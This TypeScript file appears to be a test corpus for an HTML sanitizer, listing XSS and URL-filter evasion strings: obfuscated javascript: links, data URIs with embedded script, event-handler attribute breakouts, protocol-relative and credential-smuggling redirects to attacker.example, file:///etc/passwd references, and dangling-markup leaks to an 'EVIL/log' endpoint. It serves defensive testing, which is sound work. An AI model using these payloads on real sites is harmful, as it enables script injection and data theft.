import { attacks } from './attack.ts'

const links = attacks('url', {
  javascript: '<a href="javascript:RUN">x</a>',
  'mixed-case': '<a href="JaVaScRiPt:RUN">x</a>',
  'leading-space': '<a href=" \t\n javascript:RUN">x</a>',
  'leading-control': '<a href="&#1;&#31;javascript:RUN">x</a>',
  'tab-inside': '<a href="java\tscript:RUN">x</a>',
  'line-feed-entity': '<a href="java&#10;script:RUN">x</a>',
  'carriage-return-entity': '<a href="java&#xD;script&#xA;:RUN">x</a>',
  'colon-entity': '<a href="javascript&colon;RUN">x</a>',
  'decimal-entities':
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;RUN">x</a>',
  'hex-entities-no-semicolon':
    '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3ARUN">x</a>',
  'padded-entities': '<a href="&#0000106avascript:RUN">x</a>',
  'double-encoded': '<a href="java&amp;#115;cript:RUN">x</a>',
  'percent-encoded': '<a href="java%73cript:RUN">x</a>',
  'null-inside': '<a href="java\u0000script:RUN">x</a>',
  'soft-hyphen': '<a href="java&shy;script:RUN">x</a>',
  'zero-width': '<a href="\u200Bjavascript:RUN">x</a>',
  'full-width': '<a href="ｊａｖａｓｃｒｉｐｔ:RUN">x</a>',
  'dotless-i': '<a href="javascr\u0131pt:RUN">x</a>',
  vbscript: '<a href="vbscript:RUN">x</a>',
  'data-html': '<a href="data:text/html,<script>opener.RUN</script>">x</a>',
  'data-base64': '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
  'data-image-svg':
    "<img src=\"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='RUN2'/>\">",
  blob: '<a href="blob:EVIL/1">x</a>',
  filesystem: '<a href="filesystem:EVIL/temporary/x.html">x</a>',
  'view-source': '<a href="view-source:EVIL">x</a>',
  file: '<a href="file:///etc/passwd">x</a><img src="file:///etc/passwd">',
  intent: '<a href="intent://attacker.example/#Intent;scheme=https;end">x</a>',
  'protocol-relative': '<a href="//attacker.example/">x</a><img src="//attacker.example/p.png">',
  'slash-backslash': '<a href="/\\attacker.example/">x</a><img src="/\\attacker.example/p.png">',
  backslashes: '<a href="\\\\attacker.example/">x</a><img src="\\\\attacker.example\\p.png">',
  'slash-tab-slash': '<a href="/\t/attacker.example/">x</a><img src="/\t/attacker.example/p.png">',
  'slash-entity-slash':
    '<a href="/&#9;/attacker.example/">x</a><img src="/&#10;/attacker.example/p.png">',
  'scheme-without-slashes':
    '<a href="https:attacker.example">x</a><img src="https:attacker.example/p.png">',
  'scheme-one-slash':
    '<a href="https:/attacker.example">x</a><img src="https:/attacker.example/p.png">',
  credentials:
    '<a href="https://localhost:3000@attacker.example/">x</a><img src="https://user:pw@attacker.example/p.png">',
  'in-cite': '<blockquote cite="javascript:RUN">x</blockquote><q cite="javascript:RUN">y</q>',
  'in-xlink': '<a xlink:href="javascript:RUN">x</a>',
  'in-action-of-link': '<a href="/x" ping="EVIL/ping">x</a>',
  download: '<a href="/x" download="invoice.html" target="_top" attributionsrc="EVIL/a">x</a>',
  'map-area':
    '<img src="/favicon.svg" usemap="#m"><map name="m"><area shape="rect" coords="0,0,99,99" href="javascript:RUN"></map>',
})

const images = attacks('image', {
  srcset: '<img src="/favicon.svg" srcset="EVIL/2x.png 2x">',
  'srcset-script': '<img src="/favicon.svg" srcset="javascript:RUN 1x, EVIL/x 2x">',
  'srcset-comma': '<img srcset=",EVIL/x.png 1w,,/favicon.svg 2w" sizes="100vw" src="/favicon.svg">',
  picture: '<picture><source srcset="EVIL/p.webp" onerror="RUN"><img src="/favicon.svg"></picture>',
  lowsrc: '<img src="/favicon.svg" lowsrc="EVIL/l.png" dynsrc="EVIL/d.avi" longdesc="EVIL/">',
  'image-alias': '<image src="/missing-image" onerror="RUN">',
  'attribution-src':
    '<img src="/favicon.svg" attributionsrc="EVIL/a" crossorigin="use-credentials">',
  'script-src': '<img src="javascript:RUN">',
  'alt-breakout':
    '<img src="/favicon.svg" alt="&quot; onerror=&quot;RUN" title="\'&gt;&lt;img src=x onerror=RUN2&gt;">',
  'width-breakout':
    '<img src="/missing-image" width="1&quot; onerror=&quot;RUN" height="1px;onerror=RUN">',
})

const dangling = attacks('dangling', {
  'img-single-quote': "<p>before</p><img src='EVIL/log?html=",
  'img-double-quote': '<p>before</p><img src="EVIL/log?html=',
  'link-target': '<a href="/x" target=\'',
  'open-comment': '<p>before</p><!-- <img src="/missing-image" onerror="RUN">',
  'open-tag': '<p>before</p><img src="/missing-image" onerror="RUN" ',
  'open-attribute-name': '<p>before</p><a onmouseover',
  'base-target-quote': "<base target='",
  'unclosed-title': '<title><p>the rest of the page',
  'unclosed-plaintext': '<plaintext><p>the rest of the page',
  'unclosed-noscript': '<noscript><p>the rest</noscript><img src="/missing-image" onerror="RUN">',
  'closing-tags':
    '</div></main></body></html><script>RUN</script><img src="/missing-image" onerror="RUN">',
})

export const urlAttacks = [...links, ...images, ...dangling]
